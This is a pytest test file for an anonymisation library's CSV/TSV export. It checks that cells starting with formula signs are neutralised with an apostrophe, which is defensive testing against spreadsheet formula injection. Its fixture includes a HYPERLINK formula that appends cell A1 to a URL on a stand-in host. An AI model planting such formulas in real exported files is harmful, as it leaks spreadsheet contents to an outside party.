"""Spreadsheet formulas: texts that a spreadsheet would compute are made harmless, in releases on request and in reports by default."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import unveil
from helpers import limited
from unveil import mechanisms
from unveil.cli import run
from unveil.errors import ArgumentError, DuplicateColumnError
from unveil.models import KAnonymity
from unveil.report import write
from unveil.sources.files.spreadsheets import HarmlessTexts, harmless

SIGNS = "=+-@\t\r"
FORMULA = '=HYPERLINK("http://example.org/?"&A1)'


def cells(path: Path) -> list[list[str]]:
    separator = "\t" if path.suffix == ".tsv" else ","
    return list(csv.reader(io.StringIO(path.read_text("utf-8"), newline=""), delimiter=separator))


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet computes a cell: it begins with a sign, and is no plain number."""
    if not cell.startswith(tuple(SIGNS)):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def people() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "=name": ["Ann", FORMULA, "-Bob", "@Eve", "\tTom", "+1 555"],
            "town": ["Lille", "Lille", "Lille", "Lyon", "Lyon", "Lyon"],
            "change": [-5, -4, -3, 2, 1, 0],
            "mixed": ["-5", "7", "n/a", None, "1", "2"],
        }
    )


@given(st.lists(st.none() | st.text("=+-@\t\r\nab1'\"", max_size=5), min_size=1, max_size=8))
def test_every_text_is_kept_but_for_an_apostrophe(texts: list[str | None]) -> None:
    frame = pl.DataFrame({"t": [*texts, "text"]}, schema={"t": pl.String})
    for before, after in zip(frame["t"], harmless(frame)["t"], strict=True):
        assert after == (f"'{before}" if before and before[0] in SIGNS + "\n" else before)


@given(st.lists(st.integers() | st.floats(allow_nan=False), min_size=1, max_size=8))
def test_a_column_of_numbers_stays_as_it_is_even_as_text(numbers: list[float]) -> None:
    for frame in (pl.DataFrame({"n": [float(n) for n in numbers]}), pl.DataFrame({"n": [str(n) for n in numbers]})):
        assert harmless(frame).equals(frame)


def test_what_is_text_is_decided_over_all_batches() -> None:
    texts = HarmlessTexts()
    batches = [pl.DataFrame({"a": ["-5"], "b": ["-5"]}), pl.DataFrame({"a": ["x"], "b": ["6"]})]
    for batch in batches:
        texts.see(batch)
    assert [texts.of(batch).rows() for batch in batches] == [[("'-5", "-5")], [("x", "6")]]


@pytest.mark.parametrize("kind", [pl.Categorical, pl.Enum(["=a", "b"])])
def test_categories_are_texts(kind: Any) -> None:
    assert harmless(pl.DataFrame({"c": pl.Series(["=a", "b"], dtype=kind)}))["c"].to_list() == ["'=a", "b"]


def test_names_that_would_collide_are_refused() -> None:
    with pytest.raises(DuplicateColumnError, match="occurs more than once"):
        harmless(pl.DataFrame({"=a": [1], "'=a": [2]}))


def kept(frame: pl.DataFrame) -> unveil.Study:
    """The table with all its columns vouched for."""
    return unveil.Study(frame, keep=frame.columns)


MADE: dict[str, Callable[[pl.DataFrame], Any]] = {
    "release": lambda frame: unveil.anonymize(kept(frame), ["town"], [KAnonymity(3)], keep_order=True),
    "recoding": lambda frame: unveil.mondrian(kept(frame), ["change"], [KAnonymity(3)], keep_order=True),
    "protected": lambda frame: mechanisms.round_values(kept(frame), "change", base=2),
    "protection": lambda frame: unveil.protect(kept(frame), [unveil.Step("sample", (), {"size": 6, "seed": 1})]),
}


@pytest.mark.parametrize("what", MADE)
@pytest.mark.parametrize("ending", ["csv", "tsv"])
def test_a_release_is_made_harmless_on_request(what: str, ending: str, tmp_path: Path) -> None:
    made = MADE[what](people())
    made.write(tmp_path / f"plain.{ending}")
    made.write(tmp_path / f"safe.{ending}", spreadsheet_safe=True)
    plain, safe = cells(tmp_path / f"plain.{ending}"), cells(tmp_path / f"safe.{ending}")
    assert any(is_formula(cell) for row in plain for cell in row)
    assert not [cell for row in safe for cell in row if is_formula(cell)]
    assert [[cell.removeprefix("'") for cell in row] for row in safe] == plain
    with pytest.raises(ArgumentError, match=r"no delimited text.*\.csv or \.tsv"):
        made.write(tmp_path / "safe.parquet", spreadsheet_safe=True)
    assert not (tmp_path / "safe.parquet").exists()


def test_numbers_below_zero_stay_numbers(tmp_path: Path) -> None:
    release = unveil.anonymize(kept(people()), ["town"], [KAnonymity(3)], keep_order=True)
    release.write(tmp_path / "safe.csv", spreadsheet_safe=True)
    header, *rows = cells(tmp_path / "safe.csv")
    assert header == ["'=name", "town", "change", "mixed"]
    assert [row[2] for row in rows] == ["-5", "-4", "-3", "2", "1", "0"]
    assert rows[0][3] == "'-5"  # a column of texts, in which one looks like a number


def test_both_tables_of_an_anatomy_are_made_harmless(tmp_path: Path) -> None:
    frame = pl.DataFrame({"town": ["=a", "b", "c", "d"], "ill": ["-x", "flu", "-x", "flu"]})
    mechanisms.anatomize(frame, "town", "ill", l=2).write(tmp_path, spreadsheet_safe=True)
    for name in ("quasi.csv", "sensitive.csv"):
        assert not [cell for row in cells(tmp_path / name) for cell in row if is_formula(cell)]


@pytest.mark.parametrize("order", ["--keep-order", None])
def test_a_release_that_streams_is_the_same_as_one_that_does_not(order: str | None, tmp_path: Path) -> None:
    people().write_csv(tmp_path / "people.csv")
    words = [
        "anonymize",
        str(tmp_path / "people.csv"),
        "--key",
        "town",
        "--k",
        "3",
        "--spreadsheet-safe",
        *([order] if order else []),
    ]
    assert run([*words, "--out", str(tmp_path / "held.csv")]) == 0
    with limited(stream_from=1, rows=2, text=20):
        assert run([*words, "--out", str(tmp_path / "streamed.csv")]) == 0
    held, streamed = cells(tmp_path / "held.csv"), cells(tmp_path / "streamed.csv")
    assert sorted(held) == sorted(streamed)
    assert not [cell for row in streamed for cell in row if is_formula(cell)]


@pytest.mark.parametrize("out", ["r.parquet", "duckdb:///tmp/none.duckdb?table=x.csv"])
def test_what_no_spreadsheet_opens_as_text_is_refused_before_the_work(
    out: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    assert run(["anonymize", "adult", "--key", "sex", "--k", "3", "--spreadsheet-safe", "--out", out]) == 2
    assert "leave --spreadsheet-safe" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


def test_a_table_of_a_report_is_harmless_unless_it_is_to_be_exact(tmp_path: Path) -> None:
    people().write_csv(tmp_path / "people.csv")
    words = ["dr", str(tmp_path / "people.csv"), "--key", "=name", "--unmasked"]
    assert run([*words, "--out", str(tmp_path / "safe.csv")]) == 0
    assert run([*words, "--out", str(tmp_path / "exact.csv"), "--no-spreadsheet-safe"]) == 0
    safe, exact = cells(tmp_path / "safe.csv"), cells(tmp_path / "exact.csv")
    assert not [cell for row in safe for cell in row if is_formula(cell)]
    assert FORMULA in {cell for row in exact for cell in row}
    assert [[cell.removeprefix("'") for cell in row] for row in safe] == exact


def test_other_forms_of_a_report_keep_every_text(tmp_path: Path) -> None:
    found = unveil.discrimination_rate(people(), "=name")
    write(found, tmp_path / "r.parquet", unmasked=True)
    assert FORMULA in pl.read_parquet(tmp_path / "r.parquet")["=name"].to_list()
